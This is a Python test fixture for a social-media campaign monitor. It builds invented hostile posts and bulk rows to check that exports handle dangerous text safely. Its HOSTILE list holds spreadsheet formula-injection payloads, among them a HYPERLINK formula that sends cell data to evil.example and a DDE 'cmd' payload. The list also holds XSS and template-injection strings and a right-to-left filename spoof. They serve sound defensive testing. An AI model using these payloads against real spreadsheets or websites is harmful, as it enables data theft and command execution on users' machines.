"""A store for the tests of exports: hostile posts as a walk brings them, and very many."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

from collectors.base import Media, Post
from db import store
from db.connection import Database
from db.records import Score, Span
from db.rollups import rebuild
from db.times import to_text
from tests.conftest import NOW
from tests.making import (
    NEUTRAL,
    POSITIVE,
    make_author,
    make_post,
    make_record,
    sighted,
    watch,
)

CONFIG = """
[monitor]
database = "campaigns.db"
[[campaign]]
slug = "labourleaks"
hashtags = ["LabourLeaks"]
[[source]]
slug = "server-1"
platform = "mastodon"
base_url = "https://s1.example"
"""
LATER = NOW + timedelta(minutes=10)
GERMAN = Score(lang="de", unscored="language", scorer="test/1")
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "1587000000000000002",
    "007",
    "12e45678",
    "#N/A",
    "nul \x00 bell \x07 escape \x1b[31m del \x7f, next \x85",
    "override \u202egnp.exe\u202c isolate \u2067x",
    "<script>window.hacked=1</script><img src=https://evil.example/x onerror=alert(1)>",
    "]]><!--&amp;{{ 7*7 }}{% raw %}",
    'quotes " and, commas; and\nline\r\nends',
    "🇬🇧👩‍👩‍👧‍👦 emoji \U0001f9d1\U0001f3fd",
    "תיק מודלף على الهواء #LabourLeaks",
    "lone \ufffe \uffff no characters",
    "w" * 40_000,
    "_x000D_ and _x0041_",
)
URL = 'https://social.example/@ada/1?q="><script>alert(1)</script>'


def hostile_posts() -> list[Post]:
    """One post for each text; post 1 is the newest."""
    return [
        make_post(
            number,
            text=text,
            title=text[:200] if number % 2 else None,
            content_warning=text[:50] if number % 3 == 0 else None,
            hashtags=("labourleaks", "press", "x<y")[: 1 + number % 3],
            url=URL if number == 1 else f"https://social.example/@ada/{number}",
            author=make_author(f"a{number}", display_name=text[:100] or None),
            links=(f"https://gazette.example/{number}",) if number % 2 else (),
            media=(Media("image", "https://social.example/p.jpg", None, text[:80]),),
            likes=2**60 if number == 1 else number,
        )
        for number, text in enumerate(HOSTILE, 1)
    ]  # fmt: skip


def fill(db: Database) -> None:
    """The hostile posts, one edited, one deleted, one seen by two sources."""
    watch(db, tags=("LabourLeaks", "Press"))
    scores = (NEUTRAL, POSITIVE, GERMAN)
    posts = [
        sighted(post, (1, 2) if number % 5 == 0 else (1,), scores[number % 3])
        for number, post in enumerate(hostile_posts())
    ]
    gone = sighted(make_post(500, text="a word that was taken back"))
    begun = NOW - timedelta(hours=6)
    seen = (Span(begun, NOW, "complete"),)
    store.record_walk(db, make_record(*posts, gone, spans=seen))
    edited = make_post(2, text="what it says now", edited_at=NOW + timedelta(minutes=5),
                       author=make_author("a2"))  # fmt: skip
    spans = (Span(NOW, LATER, "blind", evidence="=cmd|it answered 503"),)
    store.record_walk(
        db,
        make_record(
            sighted(edited),
            at=LATER,
            source_id=2,
            spans=spans,
            deletions=(gone.post.uri,),
        ),
    )


def many(db: Database, count: int) -> None:
    """So many plain posts, a second apart, straight into the tables."""
    watch(db)
    conn = db.conn
    conn.execute("begin")
    conn.execute(
        "insert into authors (platform, uri, handle, first_seen_at) "
        "values ('mastodon', 'https://social.example/u', 'u@social.example', ?)",
        (to_text(NOW),),
    )
    conn.execute("insert into hashtags (tag) values ('labourleaks'), ('press')")
    conn.executemany(
        "insert into posts (id, platform, uri, url, kind, author_id, text, published_at, "
        "observed_at, likes, lang, sentiment, polarity, subjectivity, scorer, message) "
        "values (?1, 'mastodon', 'https://social.example/o/' || ?1, "
        "'https://social.example/p/' || ?1, 'post', 1, "
        "'Invented post ' || ?1 || ' about #LabourLeaks', ?2, ?2, ?1, "
        "'en', 'neutral', 0.0, 0.1, 'test/1', ?1)",
        (
            (number, to_text(NOW - timedelta(days=9) + timedelta(seconds=number)))
            for number in range(1, count + 1)
        ),
    )
    conn.execute(
        "insert into matches select 1, id, 1, published_at, 1 from posts order by id"
    )
    conn.execute(
        "insert into observations select id, 1, 1, unixepoch(observed_at), 0, 'tag' "
        "from posts"
    )
    conn.execute("insert into post_hashtags select id, 1 + id % 2 from posts")
    conn.execute("insert or ignore into post_hashtags select id, 1 from posts")
    conn.execute("insert into posts_fts (rowid, text, title) select id, text, title "
                 "from posts")  # fmt: skip
    rebuild(conn)
    conn.execute("commit")


def configure(folder: Path) -> Path:
    """A configuration whose store is campaigns.db beside it; where that will be."""
    (folder / "groundswell.toml").write_text(CONFIG)
    return folder / "campaigns.db"
